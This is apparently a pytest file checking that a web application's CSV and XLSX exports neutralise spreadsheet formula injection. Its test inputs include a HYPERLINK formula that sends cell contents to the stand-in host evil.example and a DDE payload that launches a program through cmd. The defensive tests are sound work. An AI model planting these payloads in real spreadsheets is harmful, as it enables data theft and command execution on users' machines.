"""Spreadsheets GridCase writes never carry a live formula (CSV/formula injection), and all go through one
module: gridcase/core/spreadsheet.py."""

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from gridcase.core import spreadsheet
from gridcase.core.spreadsheet import neutralise
from gridcase.grids.imports import jobs

from .grids.test_import import csv_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1", "\n=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_read_as_a_formula_gets_an_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["王秀英", "1栋", "13812345678", "a=b", " 正常", "", "'已经转义"])
def test_other_text_is_left_alone(value):
    assert neutralise(value) == value


def test_typed_values_stay_typed():
    from datetime import date

    assert neutralise(-5) == -5 and neutralise(-1.5) == -1.5 and neutralise(None) is None
    assert neutralise(True) is True and neutralise(date(2026, 1, 2)) == date(2026, 1, 2)


def test_csv_and_xlsx_writers_neutralise_every_cell():
    rows = [[i, value, -i] for i, value in enumerate(HOSTILE)]
    text = spreadsheet.csv_bytes(["=head", "name", "n"], rows).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read[0][0] == "'=head"
    assert [r[1] for r in read[1:]] == ["'" + v for v in HOSTILE]
    ws = load_workbook(io.BytesIO(spreadsheet.xlsx_bytes(["=head", "name", "n"], rows))).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    # (XML turns a carriage return into a line feed; the apostrophe is what matters.)
    assert [ws.cell(row=i + 2, column=2).value for i in range(len(HOSTILE))] == [
        "'" + v.replace("\r", "\n") for v in HOSTILE]
    assert ws.cell(row=3, column=3).value == -1  # numbers stay numbers


@pytest.mark.django_db
def test_an_import_report_download_is_neutralised(city, client_for):
    rows = [[name, "女", "1950-01-01", "", "", "1栋", "1单元", f"{500 + i}", "", "", "", ""]
            for i, name in enumerate(['=HYPERLINK("http://evil.example","点我")', "@SUM(1)", "王秀兰"])]
    rows.append(["-1+2", "女", "", "", "", "不存在的楼", "1", "1", "", "", "", "=1+1"])
    job = jobs.create(city.secretary, city.community, csv_bytes(rows), "a.csv", "csv", len(rows))
    assert jobs.process(job.pk).status == "done"
    client = client_for(city.secretary, "en")

    res = client.get(f"/api/v1/imports/{job.pk}/report/")
    assert res.status_code == 200 and res["Content-Type"].startswith("text/csv")
    assert res["Cache-Control"] == "private, no-store" and "attachment" in res["Content-Disposition"]
    read = list(csv.reader(io.StringIO(res.content.decode("utf-8-sig"))))
    assert read[0] == ["Row", "Name", "Status", "Changed", "Reasons"]
    names = [r[1] for r in read[1:]]
    assert names == ["'=HYPERLINK(\"http://evil.example\",\"点我\")", "'@SUM(1)", "王秀兰", "'-1+2"]
    assert read[4][2] == "refused" and read[4][4].startswith("No building")
    assert not any(cell.startswith(spreadsheet.FORMULA_START) for row in read for cell in row)

    res = client.get(f"/api/v1/imports/{job.pk}/report/", {"type": "xlsx"})
    assert res.status_code == 200 and res["Content-Type"] == spreadsheet.XLSX_TYPE
    ws = load_workbook(io.BytesIO(res.content)).active
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert ws["B2"].value == "'=HYPERLINK(\"http://evil.example\",\"点我\")"

    assert client.get(f"/api/v1/imports/{job.pk}/report/", {"type": "pdf"}).status_code == 400
    assert client_for(city.outsider).get(f"/api/v1/imports/{job.pk}/report/").status_code == 404
    pending = jobs.create(city.secretary, city.community, csv_bytes(rows), "b.csv", "csv", len(rows))
    res = client.get(f"/api/v1/imports/{pending.pk}/report/")
    assert res.status_code == 409 and res.json()["code"] == "not_ready"


def test_every_spreadsheet_writer_is_the_one_module():
    """A CSV or XLSX written anywhere else would skip the neutraliser: only spreadsheet.py may write one."""
    root = Path(__file__).resolve().parent.parent
    writers = re.compile(r"csv\.writer|csv\.DictWriter|Workbook\(|\.to_csv\(|\.to_excel\(|xlsxwriter")
    offenders = [str(p.relative_to(root)) for base in ("gridcase", "api", "scripts") for p in (root / base).rglob("*.py")
                 if writers.search(p.read_text(encoding="utf-8")) and p.name != "spreadsheet.py"]
    assert offenders == []
